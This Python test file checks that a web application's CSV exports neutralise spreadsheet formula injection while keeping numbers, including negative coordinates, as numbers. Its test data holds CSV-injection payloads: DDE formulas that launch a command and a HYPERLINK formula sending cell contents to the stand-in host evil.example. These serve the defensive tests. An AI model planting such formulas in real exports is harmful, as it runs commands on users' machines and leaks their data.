"""Issue #17, point 9: no CSV we write runs as a spreadsheet formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from snt_web import cli
from snt_web.curation.dlqc import parse_points
from snt_web.curation.exports import warnings_csv
from snt_web.io.csv_safe import FORMULA_STARTS, safe_cell
from snt_web.store import LOCAL_USER
from snt_web.store.curation import add_warnings, warnings_and_reviews
from snt_web.web.app import create_app

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
HOSTILE = [DDE, LINK, "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=2+2"]
#: As the readers keep them: fields are trimmed (so a tab or CR in front only reaches safe_cell from elsewhere).
STORED = [k.strip() for k in HOSTILE]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate: text starting with a formula character, unless it is a number."""
    number = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or number.fullmatch(cell), cell


def _seeds_csv(rows) -> str:
    lines = ["x,y,z,confidence,radius,type,source"]
    lines += [f"{x},{y},{z},0.5,1.0,{_quoted(kind)},{_quoted(source)}" for (x, y, z), kind, source in rows]
    return "\n".join(lines) + "\n"


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _hostile_seeds(store):
    """Seeds at negative and positive positions whose type and source are formulas."""
    return [((-2.5 * k, 3.0, 1.0), kind, LINK) for k, kind in enumerate(HOSTILE)]


@pytest.mark.parametrize("value, written", [
    (DDE, "'" + DDE), (LINK, "'" + LINK), ("+1", "+1"), ("-3.500000", "-3.500000"), ("-1e-3", "-1e-3"),
    (".5", ".5"), ("-", "'-"), ("-1-1", "'-1-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("soma", "soma"), ("", ""), (" =1", " =1"), (-2.5, -2.5), (None, None),
])
def test_safe_cell_follows_owasps_rule(value, written):
    assert safe_cell(value) == written


def test_seeds_csv_from_the_api_is_inert_and_keeps_negative_coordinates(store):
    client = create_app(store, "demo").server.test_client()
    body = _seeds_csv(_hostile_seeds(store)).encode()
    response = client.post("/api/v1/projects/demo/seeds?replace=1", data=body, content_type="text/csv")
    assert response.status_code == 200 and response.json["added"] == len(HOSTILE)
    assert client.get("/api/v1/projects/demo/seeds").json["seeds"][0]["type"] == DDE  # stored as sent
    exported = client.get("/api/v1/projects/demo/seeds?format=csv")
    assert exported.mimetype == "text/csv"
    rows = _cells(exported.get_data(as_text=True))
    _assert_inert(rows)
    header, body_rows = rows[0], rows[1:]
    kinds = [r[header.index("type")] for r in body_rows]
    assert kinds == ["'" + k for k in STORED]
    assert {r[header.index("source")] for r in body_rows} == {"'" + LINK}
    assert [r[header.index("x")] for r in body_rows][:3] == ["0.000000", "-2.500000", "-5.000000"]


def test_seeds_convert_on_the_command_line_is_inert(tmp_path, capsys):
    source = tmp_path / "hostile.csv"
    source.write_text(_seeds_csv([((-1.0, 2.0, 3.0), kind, LINK) for kind in HOSTILE]))
    out = tmp_path / "out.csv"
    assert cli.main(["seeds", "convert", str(source), "-o", str(out)]) == 0
    capsys.readouterr()
    rows = _cells(out.read_text())
    _assert_inert(rows)
    assert [r[0] for r in rows[1:]] == ["-1.000000"] * len(HOSTILE)
    assert [r[rows[0].index("type")] for r in rows[1:]] == ["'" + k for k in STORED]


def _hostile_warnings(store):
    tree = store.reconstruction("demo")
    x, y, z = tree.paths[0].points[0]
    text = "x,y,z,score,check,message\n" + "".join(
        f"{x},{y},{z},-0.5,{_quoted(check)},{_quoted(LINK)}\n" for check in HOSTILE)
    warnings, errors = parse_points(text, tree)
    assert not errors
    add_warnings(store, "demo", LOCAL_USER, warnings, source="dlqc")
    return warnings


def test_dlqc_checks_and_messages_are_inert_in_the_warnings_csv(store):
    warnings = _hostile_warnings(store)
    rows = _cells(warnings_csv(warnings))
    _assert_inert(rows)
    header = rows[0]
    assert sorted(r[header.index("check")] for r in rows[1:]) == sorted("'" + c for c in STORED)
    assert {r[header.index("message")] for r in rows[1:]} == {"'" + LINK}
    assert {r[header.index("value")] for r in rows[1:]} == {"-0.5"}  # a negative score stays a number


def test_curation_export_of_a_project_is_inert(store, tmp_path, capsys, monkeypatch):
    _hostile_warnings(store)
    warnings, _ = warnings_and_reviews(store, "demo", check_role=False)
    from snt_web.store.curation import set_decision

    set_decision(store, "demo", LOCAL_USER, [w.key for w in warnings], "reject")
    monkeypatch.delenv("SNT_WEB_DATABASE_URL", raising=False)
    code = cli.main(["curation-export", "--project", "demo", "--data-dir", str(store.data_dir),
                     "-o", str(tmp_path / "out")])
    facts = json.loads(capsys.readouterr().out)
    assert code == 0
    rows = _cells(Path(facts["warnings_csv"]).read_text())
    assert len(rows) == 1 + len(HOSTILE)
    _assert_inert(rows)


def test_every_csv_writer_goes_through_the_helper():
    """Seeds, warnings, crossovers, label points, API responses: a csv.writer elsewhere would write formulas."""
    package = Path(__import__("snt_web").__file__).parent
    offenders = [str(path.relative_to(package)) for path in package.rglob("*.py")
                 if path.name != "csv_safe.py" and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())]
    assert offenders == []
